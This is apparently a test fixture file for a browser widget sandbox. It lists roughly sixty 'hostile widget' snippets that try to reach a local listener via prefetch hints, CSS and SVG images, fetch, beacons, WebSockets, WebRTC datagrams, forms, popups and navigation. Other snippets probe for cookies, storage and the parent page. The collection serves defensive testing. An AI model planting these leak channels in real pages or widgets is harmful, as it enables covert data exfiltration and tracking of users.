// Sixty hostile widgets. Each is a text of statements that runs as a widget's module, and (where something would leave the browser) as the
// script of an unguarded page, where the listener must hear it: the positive control. What they may use: `go(name)` is an address of the
// listener, `rtc` its UDP port.
//
// REQUESTS and DATAGRAMS stay in their document; DEPARTURES may leave it, so each is shown alone; LOOKS say what they found.

/** Statements that both sides share. */
export const PREAMBLE = `
const link = (rel, name, more = {}) => document.head.append(Object.assign(document.createElement("link"), { rel, href: go(name), ...more }));
const put = (html) => { const box = document.createElement("div"); box.innerHTML = html; document.body.append(box); return box; };
const svg = (name, attributes, parent) => {
  const element = document.createElementNS("http://www.w3.org/2000/svg", name);
  for (const [key, value] of Object.entries(attributes)) element.setAttribute(key, value);
  (parent ?? document.body).append(element);
  return element;
};
`;

export const REQUESTS = {
  // Prefetching and hints
  prefetch_dns: "link('dns-prefetch', 'prefetch_dns'); link('preconnect', 'prefetch_dns'); link('prefetch', 'prefetch_dns')",
  prefetch_by_parser:
    "const d = new DOMParser().parseFromString('<link rel=prefetch href=' + go('prefetch_by_parser') + '>', 'text/html'); document.head.append(document.importNode(d.querySelector('link'), true))",
  prefetch_by_clone:
    "const t = document.createElement('template'); t.innerHTML = '<link rel=prefetch href=' + go('prefetch_by_clone') + '>'; document.head.append(t.content.cloneNode(true))",
  preload_image: "link('preload', 'preload_image', { as: 'image' })",
  speculation:
    "const s = document.createElement('script'); s.type = 'speculationrules'; s.textContent = JSON.stringify({ prefetch: [{ source: 'list', urls: [go('speculation')] }] }); document.head.append(s); link('prefetch', 'speculation')",
  stylesheet_by_ns:
    "const l = document.createElementNS('http://www.w3.org/1999/xhtml', 'link'); l.setAttribute('rel', 'stylesheet'); l.setAttribute('href', go('stylesheet_by_ns')); document.head.append(l)",
  // Images in many forms
  css_variable:
    "document.body.style.setProperty('--x', 'url(' + go('css_variable') + ')'); document.body.style.backgroundImage = 'var(--x)'",
  css_sheet:
    "const s = new CSSStyleSheet(); s.replaceSync('body { background: url(' + go('css_sheet') + ') }'); document.adoptedStyleSheets = [s]",
  css_cursor: "document.body.style.cursor = 'url(' + go('css_cursor') + '), auto'; document.body.style.listStyleImage = 'url(' + go('css_cursor') + ')'; const li = document.createElement('li'); document.body.append(li)",
  css_mask: "const d = document.createElement('div'); d.textContent = 'x'; d.style.maskImage = 'url(' + go('css_mask') + ')'; document.body.append(d)",
  css_shape:
    "const d = document.createElement('div'); d.style.cssText = 'float:left;width:9px;height:9px;shape-outside:url(' + go('css_shape') + ')'; document.body.append(d)",
  css_set:
    "const d = document.createElement('div'); d.style.cssText = 'width:9px;height:9px;background:image-set(url(' + go('css_set') + ') 1x)'; document.body.append(d)",
  css_font:
    "const s = document.createElement('style'); s.textContent = '@font-face { font-family: X; src: url(' + go('css_font') + ') } body { font-family: X }'; document.head.append(s); document.body.append('text')",
  picture:
    "const p = document.createElement('picture'); const s = document.createElement('source'); s.srcset = go('picture'); const i = document.createElement('img'); p.append(s, i); document.body.append(p); i.src = go('picture')",
  image_input: "const i = document.createElement('input'); i.type = 'image'; i.src = go('image_input'); document.body.append(i)",
  svg_image: "svg('image', { href: go('svg_image') }, svg('svg', {}))",
  svg_filter:
    "const s = svg('svg', {}); const f = svg('filter', { id: 'f' }, s); svg('feImage', { href: go('svg_filter') }, f); svg('rect', { width: 9, height: 9, filter: 'url(#f)' }, s)",
  svg_use: "const s = svg('svg', {}); svg('use', { href: go('svg_use') + '#x' }, s); svg('image', { href: go('svg_use') }, s)",
  poster: "const v = document.createElement('video'); v.poster = go('poster'); document.body.append(v)",
  audio: "new Audio(go('audio')).load(); const a = new Audio(); a.preload = 'auto'; a.src = go('audio')",
  track:
    "const v = document.createElement('video'); const t = document.createElement('track'); t.default = true; t.kind = 'subtitles'; t.src = go('track'); v.append(t); v.src = go('track'); document.body.append(v)",
  // Connections
  fetch_later: "typeof fetchLater === 'function' && fetchLater(go('fetch_later'), { activateAfter: 0 }); fetch(go('fetch_later'), { mode: 'no-cors' }).catch(() => 0)",
  fetch_by_prototype: "Window.prototype.fetch; Reflect.apply(fetch, globalThis, [go('fetch_by_prototype'), { mode: 'no-cors' }]).catch(() => 0)",
  beacon_blob: "navigator.sendBeacon(go('beacon_blob'), new Blob(['x'], { type: 'text/plain' }))",
  socket_late: "setTimeout(() => new WebSocket(go('socket_late').replace('http', 'ws')), 50)",
  events_late: "queueMicrotask(() => new EventSource(go('events_late')))",
  report: "const o = new ReportingObserver(() => 0); o.observe(); navigator.sendBeacon(go('report'), 'x')",
  worker_module:
    `new Worker(URL.createObjectURL(new Blob(['fetch("' + go('worker_module') + '", { mode: "no-cors" })'], { type: 'text/javascript' })), { type: 'module' })`,
  worklet: "(async () => { await CSS.paintWorklet?.addModule(go('worklet')); })().catch(() => 0); fetch(go('worklet'), { mode: 'no-cors' }).catch(() => 0)",
  import_map:
    "const s = document.createElement('script'); s.type = 'importmap'; s.textContent = JSON.stringify({ imports: { evil: go('import_map') } }); document.head.append(s); import(go('import_map')).catch(() => 0)",
  json_module: "import(go('json_module'), { with: { type: 'json' } }).catch(() => 0)",
  // Frames and elements that load
  inner_frame: "const f = document.createElement('iframe'); f.srcdoc = '<img src=' + go('inner_frame') + '>'; document.body.append(f)",
  fenced: "const f = document.createElement('fencedframe'); f.setAttribute('src', go('fenced')); document.body.append(f); const g = document.createElement('iframe'); g.src = go('fenced'); document.body.append(g)",
  object_data: "const o = document.createElement('object'); o.type = 'image/svg+xml'; o.data = go('object_data'); document.body.append(o)",
  portal: "const p = document.createElement('portal'); p.src = go('portal'); document.body.append(p); new Image().src = go('portal')",
  shadow: "const h = document.createElement('div'); h.attachShadow({ mode: 'open' }).append(Object.assign(new Image(), { src: go('shadow') })); document.body.append(h)",
  script_element: "const s = document.createElement('script'); s.src = go('script_element'); document.head.append(s)",
  inline_handler: "const i = new Image(); i.setAttribute('onerror', 'fetch(\"' + go('inline_handler') + '\", { mode: \"no-cors\" })'); i.src = 'data:,'; document.body.append(i)",
  // Forms and popups
  form_button:
    "const f = document.createElement('form'); f.target = 'elsewhere'; const b = document.createElement('button'); b.formAction = go('form_button'); f.append(b); document.body.append(f); f.requestSubmit(b)",
  form_get: "const f = document.createElement('form'); f.action = go('form_get'); f.target = 'elsewhere'; document.body.append(f); HTMLFormElement.prototype.submit.call(f)",
  popup_features: "open(go('popup_features'), '_blank', 'popup,noopener')",
  popup_link:
    "const a = document.createElement('a'); a.href = go('popup_link'); a.target = '_blank'; document.body.append(a); a.dispatchEvent(new MouseEvent('click', { bubbles: true, cancelable: true })); a.click()",
  download: "const a = document.createElement('a'); a.href = go('download'); a.download = 'x'; document.body.append(a); a.click()",
};

/** Datagrams to the listener's UDP port; the control shows that the browser sends them. */
export const DATAGRAMS = {
  rtc: "const c = new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:' + rtc }] }); c.createDataChannel('x'); c.createOffer().then((o) => c.setLocalDescription(o))",
  rtc_webkit:
    "const C = globalThis.webkitRTCPeerConnection ?? Object.getOwnPropertyNames(globalThis).filter((n) => /PeerConnection$/.test(n)).map((n) => globalThis[n]).find(Boolean); const c = new C({ iceServers: [{ urls: 'stun:127.0.0.1:' + rtc }] }); c.createDataChannel('x'); c.createOffer().then((o) => c.setLocalDescription(o))",
};

export const DEPARTURES = {
  assign: "location.assign(go('assign'))",
  replace_document: "document.open?.(); location.replace(go('replace_document'))",
  navigation_api: "navigation.navigate(go('navigation_api'))",
  window_self: "open(go('window_self'), '_self')",
  top_open: "open(go('top_open'), '_top')",
  meta_late: "setTimeout(() => { const m = document.createElement('meta'); m.httpEquiv = 'refresh'; m.content = '0; url=' + go('meta_late'); document.head.append(m); }, 100)",
  base_link: "const b = document.createElement('base'); b.href = go('base_link'); document.head.append(b); const a = document.createElement('a'); a.href = go('base_link'); document.body.append(a); a.click()",
  svg_link: "const s = svg('svg', {}); const a = svg('a', { href: go('svg_link') }, s); a.dispatchEvent(new MouseEvent('click', { bubbles: true, cancelable: true, view: window }))",
};

/** What is looked for, and must not be found; the control finds it in the page around the frames. */
export const LOOKS = {
  storage: "caches.keys().then((k) => found('caches ' + k.length)).catch(() => 0); found(localStorage.length >= 0 && 'localStorage')",
  cookie_store: "globalThis.cookieStore?.getAll().then((all) => found('cookieStore ' + all.length)).catch(() => 0); found(document.cookie.includes('canary') && 'cookie')",
  page_around: "found(parent.document.title && 'parent'); found(top.location.href && 'location')",
};
